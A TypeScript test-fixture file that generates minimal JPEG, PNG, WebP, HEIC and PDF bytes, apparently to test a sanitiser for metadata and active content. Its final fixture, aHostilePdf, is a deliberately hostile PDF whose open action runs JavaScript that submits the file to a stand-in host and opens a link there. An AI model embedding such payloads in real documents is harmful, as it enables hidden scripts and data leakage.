// Generated pictures as bytes, valid enough to be accepted.

const segment = (marker: number, content: readonly number[]): readonly number[] => [
  0xff,
  marker,
  (content.length + 2) >> 8,
  (content.length + 2) & 0xff,
  ...content,
];

const text = (words: string): readonly number[] => [...Buffer.from(words, "latin1")];

const jfif = segment(0xe0, [...text("JFIF\0"), 1, 1, 0, 0, 1, 0, 1, 0, 0]);
const frame = (width: number, height: number) =>
  segment(0xc0, [8, height >> 8, height & 0xff, width >> 8, width & 0xff, 1, 1, 0x11, 0]);
const scan = [...segment(0xda, [1, 1, 0, 0, 63, 0]), 0x12, 0xff, 0x00, 0x34, 0xff, 0xd3, 0x56];
const end = [0xff, 0xd9];

/** The location in a camera's metadata. */
export const exifWords = "Exif\0\0GPSLatitude 50.8 canary where the photo was taken";
export const exifSegment = segment(0xe1, text(exifWords));

/** As this program redraws one; `words` are among its tables, to be searched for. */
export const aPlainPhoto = (words = "canary face"): Uint8Array<ArrayBuffer> =>
  new Uint8Array([
    0xff,
    0xd8,
    ...jfif,
    ...segment(0xdb, [0, ...text(words.padEnd(64, ".")).slice(0, 64)]),
    ...frame(64, 48),
    ...scan,
    ...end,
  ]);

/** The same, as a phone makes it. */
export function aPhotoWithPlace(words = "canary face"): Uint8Array<ArrayBuffer> {
  const plain = aPlainPhoto(words);
  return new Uint8Array([...plain.subarray(0, 2), ...exifSegment, ...plain.subarray(2)]);
}

export const aPng = (width: number, height: number): Uint8Array<ArrayBuffer> => {
  const size = Buffer.alloc(8);
  size.writeUInt32BE(width, 0);
  size.writeUInt32BE(height, 4);
  return new Uint8Array([...text("\x89PNG\r\n\x1a\n"), 0, 0, 0, 13, ...text("IHDR"), ...size, 8]);
};

/** The three ways in which WebP stores its size. */
export const webps = {
  lossy: (width: number, height: number) =>
    webp("VP8 ", [0x10, 0, 0, 0x9d, 0x01, 0x2a, ...little(width, 2), ...little(height, 2)]),
  lossless: (width: number, height: number) =>
    webp("VP8L", [0x2f, ...little(width - 1 + (height - 1) * 0x4000, 4)]),
  extended: (width: number, height: number) =>
    webp("VP8X", [0, 0, 0, 0, ...little(width - 1, 3), ...little(height - 1, 3)]),
} as const;

const little = (value: number, count: number): readonly number[] =>
  Array.from({ length: count }, (_, place) => Math.floor(value / 256 ** place) % 256);

const webp = (kind: string, content: readonly number[]): Uint8Array<ArrayBuffer> =>
  new Uint8Array([
    ...text("RIFF"),
    0,
    0,
    0,
    0,
    ...text("WEBP"),
    ...text(kind),
    0,
    0,
    0,
    0,
    ...content,
  ]);

/** One page with some text on it, and `more` objects beside it. */
export const aPdf = (
  words = "canary page",
  more: readonly string[] = [],
  ending = "",
): Uint8Array<ArrayBuffer> => pdfOf([...pageWith(words), ...more], ending);

/** Five objects, the catalogue first, with additions in it and on its page. */
function pageWith(words: string, inCatalogue = "", onPage = ""): readonly string[] {
  const shown = `BT /F1 24 Tf 72 700 Td (${words}) Tj ET`;
  return [
    `<< /Type /Catalog /Pages 2 0 R${inCatalogue} >>`,
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >>${onPage} >>`,
    `<< /Length ${String(shown.length)} >>\nstream\n${shown}\nendstream`,
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
  ];
}

/** A PDF of these objects, the first of which is its catalogue. */
export function pdfOf(objects: readonly string[], ending = ""): Uint8Array<ArrayBuffer> {
  let file = "%PDF-1.7\n";
  const places = objects.map((object, index) => {
    const at = file.length;
    file += `${String(index + 1)} 0 obj\n${object}\nendobj\n`;
    return at;
  });
  const lines = places.map((at) => `${String(at).padStart(10, "0")} 00000 n \n`).join("");
  const size = String(objects.length + 1);
  const table = `xref\n0 ${size}\n0000000000 65535 f \n${lines}`;
  const trailer = `trailer\n<< /Size ${size} /Root 1 0 R${ending} >>\nstartxref\n${String(file.length)}\n%%EOF`;
  return new Uint8Array(Buffer.from(`${file}${table}${trailer}`, "latin1"));
}

/** A complete picture in the format of a phone, 64 by 48: made with `heif-enc -e kvazaar` from a few colours. */
export const aHeic = (): Uint8Array<ArrayBuffer> => new Uint8Array(Buffer.from(heic, "base64"));

const heic =
  "AAAAHGZ0eXBoZWljAAAAAG1pZjFoZWljbWlhZgAAAVptZXRhAAAAAAAAACFoZGxyAAAAAAAAAABwaWN0AAAAAAAAAAAAAAAAAAAAACJpbG9jAAAA" +
  "AERAAAEAAQAAAAABfgABAAAAAAAAAPgAAAAjaWluZgAAAAAAAQAAABVpbmZlAgAAAAABAABodmMxAAAAAA5waXRtAAAAAAABAAAA2mlwcnAAAAC7" +
  "aXBjbwAAAHxodmNDAQFgAAAAgAAAAAAAuvAA/P34+AAACwNgAAEAGkABDAL//wFgAAADAIAAAAMAAAMAugAALAkAYQABACxCAQIBYAAAAwCAAAAD" +
  "AAADALoAAKAggxcuSTKpuAhoMCAAAAMDIAAAAwAhAGIAAQAIRAHBYeGCmSAAAAATY29scm5jbHgAAQANAAaAAAAAFGlzcGUAAAAAAAAAQAAAADAA" +
  "AAAQcGl4aQAAAAADCAgIAAAAF2lwbWEAAAAAAAAAAQABBIECAwQAAAEAbWRhdAAAAKhOAQWjMv5GbJhBQmmuNWqRVJ7z8Ut2YXphYXIgSEVWQyBF" +
  "bmNvZGVyIHYuIDIuMy4xIC0gQ29weWxlZnQgMjAxMi0yMDE1IC0gaHR0cDovL3VsdHJhdmlkZW8uY3MudHV0LmZpLyAtIG9wdGlvbnM6IDY0eDQ4" +
  "IGRlYmxvY2s9MTowOjAgc2FvPTMgaW50cmFfcGVyaW9kPTY0IHFwPTQxIHJlZj0xAIAAAAAyJgGvePdWTQ842A/4ioB9KH2zucXJOsHUHmbwjgph" +
  "mqtLWeuW7Z5SD3Mx43tJTs3ETBkAAAASUAGEDQIABb4PAAF7FgABjcCA";

/** It opens with a password only, and nobody knows it. */
export const aLockedPdf = (): Uint8Array<ArrayBuffer> => {
  const noise = "4b".repeat(32);
  const locked = `/Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <${noise}> /U <${noise}> >>`;
  return aPdf("locked", [], ` /ID [<00><00>] ${locked}`);
};

/** It would run a script, open a web page, submit itself there and attach a file, if allowed. */
export const aHostilePdf = (): Uint8Array<ArrayBuffer> =>
  pdfOf([
    ...pageWith(
      "canary of a hostile page",
      " /OpenAction 6 0 R /Names << /EmbeddedFiles << /Names [(canary.html) 9 0 R] >> >>",
      " /Annots [8 0 R]",
    ),
    "<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('https://canary.invalid/'\\);) /Next 7 0 R >>",
    "<< /S /URI /URI (https://canary.invalid/) >>",
    "<< /Type /Annot /Subtype /Link /Rect [72 690 400 730] /Border [0 0 0] /A 7 0 R >>",
    "<< /Type /Filespec /F (canary.html) /UF (canary.html) /EF << /F 10 0 R >> >>",
    "<< /Type /EmbeddedFile /Length 17 >>\nstream\n<p>canary</p>    \nendstream",
  ]);
